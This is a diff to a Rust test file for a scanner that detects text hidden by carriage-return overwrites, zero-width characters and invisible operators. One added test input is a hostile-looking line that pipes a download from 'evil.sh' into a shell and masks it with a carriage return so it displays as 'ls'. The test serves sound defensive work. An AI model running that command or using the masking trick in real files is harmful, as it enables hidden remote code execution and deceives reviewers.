@@ -101,6 +101,12 @@ fn lines_that_are_written_over_are_found() {
     finds("first\nsafe\r\revil\n", &[RULE]);
     finds("first\r\nna\u{EF}ve\r\u{44D}\u{442}\u{43E}\r\nlast\r\n", &[RULE]);
     finds("a\rb\rc\n", &[RULE, RULE]);
+    // Too few to be the lines of an old Mac; many of which one is to cover those before.
+    finds("curl evil.sh | sh #\rls                \r", &[RULE]);
+    finds("a\rb\rc", &[RULE, RULE]);
+    finds("a\rb\rc\r", &[RULE, RULE]);
+    finds(format!("{}ls      ", "a\r".repeat(9)), &[RULE; 9]);
+    finds(format!("ls      \r{}", "a\r".repeat(9)), &[RULE; 9]);
     finds(b"a\nb\r\xFF\n", &[RULE, "ill-formed"]);
     finds("a\u{200B}\rb\u{200B}\nc\u{200B}", &["zero-width", RULE, "zero-width", "zero-width"]);
     let utf16: Vec<u8> = "a\nb\rc\n".encode_utf16().flat_map(u16::to_be_bytes).collect();
@@ -109,8 +115,8 @@ fn lines_that_are_written_over_are_found() {
     for text in [
         "a\r\nb\r\n",
         "a\r\r\nb\r\n",
-        "a\rb\rc\r",
-        "a\rb\rc",
+        "a\rb\rc\rd\re\rf\rg\rh\r",
+        "a\rb\rc\rd\re\rf\rg\rh\ri",
         "a\r",
         "\ra\n",
         "b\n\r\ra\n",
@@ -145,7 +151,8 @@ fn operators_within_words_are_found() {
             format!("\u{43F}\u{430}\u{440}{operator}\u{43E}\u{43B}\u{44C}\u{43D}"),
             &["zero-width"],
         );
-        finds(format!("1{operator}2, {operator}x{operator}"), &["invisible-operator"; 3]);
+        finds(format!("1{operator}2"), &["zero-width"]);
+        finds(format!("1{operator}x, {operator}x{operator}"), &["invisible-operator"; 3]);
     }
     finds(
         "x\u{2062}y\u{2062}z, sin\u{2061}x, i\u{2063}j, f\u{2061}(x)",
@@ -155,6 +162,32 @@ fn operators_within_words_are_found() {
         "a\u{34F}\u{301} \u{5D1}\u{34F}\u{5BC} \u{E01}\u{2060}\u{E02}",
         &["invisible-operator"; 3],
     );
+}
+
+/// A word that is spelled with an operator behind each letter, or in parts of one letter.
+#[test]
+fn operators_between_letters_are_found() {
+    for text in [
+        "e\u{2063}v\u{2063}i\u{2063}l",
+        "e\u{2062}v\u{2062}i\u{2062}l",
+        "r\u{2063}u\u{2063}n",
+        "f\u{2061}\u{2062}oo",
+        "evil\u{2061}()",
+        "the evil\u{2061}()",
+        "if\u{2061}x",
+        "\u{430}\u{2063}\u{431}\u{432}",
+        "user\u{2063}1",
+        "\u{43F}\u{440}\u{438}\u{432}\u{435}\u{442}\u{2062}x",
+    ] {
+        assert!(codes(text).contains(&"zero-width".to_owned()), "{text:?}: {:?}", codes(text));
+    }
+    for text in [
+        "a\u{2062}sin\u{2061}x\u{2062}cos\u{2061}y",
+        "the arccos\u{2061}(x) of 2\u{2062}\u{3C0}\u{2062}r, log\u{2061}2, 3\u{2064}\u{BD}",
+        "4\u{2062}a\u{2062}c, 5\u{2062}km",
+    ] {
+        assert!(codes(text).iter().all(|code| code == "invisible-operator"), "{text:?}");
+    }
 }
 
 #[test]
